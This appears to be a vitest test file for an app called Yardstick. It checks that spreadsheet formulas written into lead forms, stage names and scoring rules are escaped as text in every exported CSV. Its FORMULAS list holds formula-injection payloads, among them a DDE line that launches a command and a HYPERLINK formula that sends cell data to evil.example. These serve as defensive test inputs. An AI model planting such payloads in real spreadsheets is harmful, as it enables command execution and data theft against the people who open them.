/** A formula that somebody wrote into a lead form comes out of every table that Yardstick writes as text. */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { expect, test } from 'vitest';
import type { Criterion } from '#shared/domain/definition/schema.ts';
import { smallDefinition } from '../support/definitions.ts';
import { temporaryFolder } from '../support/folder.ts';
import { done, hostIn } from '../support/host.ts';

const FORMULAS = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '@SUM(1+1)*cmd',
  '+cmd|x!A1',
  '-cmd|x!A1',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
];

/** What a spreadsheet would work out: at the start of a cell, behind white space too; a number alone is none. */
const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^[+-]?[\d.,\s]+$/.test(cell);

/** The cells of a CSV file (RFC 4180), read on our own. */
function cellsOf(csv: string): string[] {
  const cells = csv.matchAll(/(?:^|,|\r\n|\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g);
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
}

test('in the pack and in the rows that were left out', async () => {
  const folder = temporaryFolder();
  const host = hostIn(folder);
  const at = (name: string) => host.places.register(join(folder, name));
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const rows = Array.from({ length: 80 }, (_, i) => {
    const formula = quoted(FORMULAS[i % FORMULAS.length]!);
    // Every tenth has no status, and is left out.
    return [`D-${i}`, formula, formula, i % 10 === 0 ? '' : i % 2 ? 'Lost' : 'Won', i].join(',');
  });
  const header = ['Deal ID', 'Company', quoted(FORMULAS[0]!), 'Status', 'Amount'].join(',');
  writeFileSync(join(folder, 'deals.csv'), [header, ...rows].join('\n'));
  await done(host.call('workshop.create', { place: at('new.yardstick'), name: FORMULAS[1]! }));
  const { mapping } = await done(host.call('deals.preview', { place: at('deals.csv') }));
  const { '': _, ...outcomes } = mapping.outcomes;
  const report = await done(
    host.call('deals.import', { place: at('deals.csv'), mapping: { ...mapping, outcomes } }),
  );
  expect(report.leftOut).toBe(8);
  await done(host.call('deals.exportLeftOut', { place: at('left-out.csv') }));

  const hostile = smallDefinition('Hostile');
  for (const stage of hostile.stages) stage.name = `=${stage.name}()`;
  const fields = mapping.columns.filter(({ column }) => column === 1 || column === 2).map(({ key }) => key);
  const rule = (id: string, formula: string, when: Criterion) =>
    ({ id, name: formula, category: 'fit', when, points: 20 }) as const;
  hostile.scoring.rules = FORMULAS.flatMap((formula, i) => [
    rule(`field ${i}`, formula, { kind: 'field', field: fields[i % 2]!, op: 'is', value: formula }),
    rule(`act ${i}`, formula, {
      kind: 'touchpoints',
      types: [formula],
      measure: 'count',
      scope: 'deal',
      is: { op: 'atLeast', value: 1 },
    }),
  ]);
  const draft = await done(host.call('definitions.create', { definition: hostile }));
  const pack = await done(host.call('pack.export', { definition: draft.id, place: at('pack.zip') }));
  // A table of another kind would have to be read here too.
  expect(pack.files.filter((file) => /\.(xlsx?|ods|tsv)$/.test(file))).toEqual([]);

  const files = unzipSync(readFileSync(join(folder, 'pack.zip')));
  const tables = Object.entries(files).filter(([path]) => path.endsWith('.csv'));
  expect(tables.map(([path]) => path)).toEqual(
    expect.arrayContaining(['golden/leads.csv', 'golden/touchpoints.csv']),
  );
  const texts = [
    ...tables.map(([path, bytes]) => [path, strFromU8(bytes)] as const),
    ['left-out.csv', readFileSync(join(folder, 'left-out.csv'), 'utf8')] as const,
  ];
  for (const [path, text] of texts) expect(cellsOf(text).filter(isFormula), path).toEqual([]);
  // They are there, as text.
  const all = texts.flatMap(([, text]) => cellsOf(text));
  for (const formula of FORMULAS) expect(all).toContain(`'${formula}`);
});
